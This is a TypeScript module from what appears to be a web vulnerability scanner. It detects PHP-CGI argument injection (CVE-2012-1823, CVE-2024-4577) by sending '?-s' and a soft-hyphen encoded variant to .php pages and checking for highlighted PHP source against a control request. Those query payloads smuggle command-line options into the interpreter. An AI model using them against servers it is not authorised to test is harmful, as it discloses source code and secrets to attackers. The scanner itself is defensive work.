import { getPath, pathOf } from '../../attacks/requests.js';
import type { ActiveCheck, Prober, Proof } from '../../check.js';
import type { ProbeRequest } from '../../exchange.js';
import { bodyText } from '../../page/message.js';

export const check: ActiveCheck = {
  id: 'php-cgi-source',
  mode: 'active',
  scope: 'operation',
  places: [],
  writes: false,
  technologies: [],
  title: 'The query is taken as options of PHP',
  severity: 'critical',
  aliases: ['ZAP-20017', 'ZAP-20018', 'CVE-2012-1823', 'CVE-2024-4577', 'CWE-20', 'WASC-20'],
  cwe: 20,
  fix: 'Update PHP, and run it by FPM instead of CGI.',
  references: [
    'https://www.cve.org/CVERecord?id=CVE-2012-1823',
    'https://www.php.net/manual/en/features.commandline.options.php',
  ],
  cost: { low: 2, medium: 2, high: 2, insane: 2 },
  attack: async (target, prober) => (target.scope === 'operation' ? prove(target.request, prober) : []),
};

/** What `php -s` prints: the source, coloured (highlight_string). */
const coloured = /<code>(?:<pre>)?\s{0,4}<span style="color: ?#[0-9A-F]{6}">[\s\S]{0,40}&lt;\?(?:php|=)/i;

async function prove(request: ProbeRequest, prober: Prober): Promise<readonly Proof[]> {
  const path = pathOf(request.url);
  if (!/\.php\d?$/i.test(path)) return [];
  for (const option of ['-s', '%AD%73']) {
    const ask = (query: string) => prober.request(getPath(request, `${path}?${query}`));
    if (!coloured.test(bodyText((await ask(option)).response))) continue;
    const attack = await ask(option);
    const control = await ask('q');
    const evidence = coloured.exec(bodyText(attack.response))?.[0];
    if (evidence === undefined || coloured.test(bodyText(control.response))) continue;
    return [
      {
        subject: path,
        payload: `?${option}`,
        attack,
        control,
        repeated: 2,
        evidence,
        confidence: 'confirmed',
      },
    ];
  }
  return [];
}
